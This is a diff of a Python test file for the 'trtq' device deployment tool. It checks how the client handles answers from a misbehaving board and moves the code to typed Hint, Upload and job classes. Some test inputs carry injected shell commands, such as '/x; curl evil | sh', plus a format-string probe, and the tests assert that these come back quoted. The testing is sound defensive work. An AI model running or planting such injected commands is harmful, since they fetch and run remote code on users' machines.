@@ -27,11 +27,11 @@ from trtq.commands.deploy import deploy
 from trtq.commands.fleet import fleet
 from trtq.deploy import agent_client, stream
 from trtq.deploy.agent_client import Agent
-from trtq.deploy.answers import hint_words, outputs_of
+from trtq.deploy.answers import Hint, Upload, hint_words, outputs_of
 from trtq.deploy.board import probe
 from trtq.deploy.board_readings import read_readings
 from trtq.deploy.devices import Device, config_folder, find_device, remember_device
-from trtq.deploy.jobs import do
+from trtq.deploy.jobs import BoardJob, JobStep, do
 from trtq.deploy.stream import Limits, gunzip
 from trtq.engine.trtexec_log import read_times
 from trtq.errors import BenchError, BoardError, DeviceError, LinkError, SshError, TrtqError
@@ -161,7 +161,7 @@ def test_answers_that_mean_no_good(agent, bad, code, error, text):
     bad.says("", code)
     began = time.monotonic()
     with pytest.raises(error, match=text) as caught:
-        agent.ask("have", name="files/x", size=1, sha256="0" * 64)
+        agent.ask("have", Upload, name="files/x", size=1, sha256="0" * 64)
     assert time.monotonic() - began < 12.0
     assert agent.received < 70 * MIB
     assert len(str(caught.value)) < 1200
@@ -253,7 +253,7 @@ def test_what_the_follower_of_a_job_meets(agent, bad, monkeypatch):
         BoardError, match="it answers 20 times in a row before its time. trtq device stop bad aa"
     ):
         agent.follow("aa")
-    job = {"title": "the work", "steps": [{"name": "s", "argv": ["true"]}]}
+    job = BoardJob(title="the work", steps=[JobStep(name="s", argv=["true"])])
     good = "dict(ok=True, why='', mend=dict(name='', arguments={}), steps="
     for result, text in (
         ("", "the work is done without a result"),
@@ -349,21 +349,29 @@ def test_advice_is_in_our_words_and_what_the_board_puts_in_is_quoted(agent, bad)
         "arguments=dict(path='/x; curl evil | sh', device='y')))",
     )
     with pytest.raises(BoardError) as caught:
-        agent.ask("have")
+        agent.ask("have", Upload)
     assert "chmod go-w '/x; curl evil | sh'; or give" in str(caught.value)
     bad.says(
         "",
         "hello(); send(event='refused', why='no', mend=dict(name='curl evil | sh', arguments={}))",
     )
     with pytest.raises(BoardError, match="bad refuses to have: no.$"):
-        agent.ask("have")
-    assert hint_words({"name": "disk", "arguments": {"device": "x; y"}}, "nano").startswith(
+        agent.ask("have", Upload)
+    assert hint_words(Hint("disk", {"device": "x; y"}), "nano").startswith(
         "trtq device clean nano, or"
     )
-    assert hint_words({"name": "restore", "arguments": {}}, "nano") == ""  # it lacks what it needs
-    assert hint_words(
-        {"name": "restore", "arguments": {"number": "{device.__class__}\n2"}}, "n"
-    ).startswith("on the board: sudo nvpmodel -m '{device.__class__} 2'")
+    assert hint_words(Hint("restore", {}), "nano") == ""  # it lacks what it needs
+    hint = Hint("restore", {"number": "{device.__class__}\n2"})
+    assert hint_words(hint, "n").startswith("on the board: sudo nvpmodel -m '{device.__class__} 2'")
+
+
+def test_an_answer_to_another_question_is_named(agent, bad):
+    bad.says("", "hello(); send(event='written')")
+    with pytest.raises(BoardError) as caught:
+        agent.ask("have", Upload)
+    assert caught.value.message == "Cannot read the answer of bad"
+    assert caught.value.reason == "it answers have with Done, expected Upload"
+    assert caught.value.hint.endswith("trtq device shell bad")
 
 
 @needs_sshd
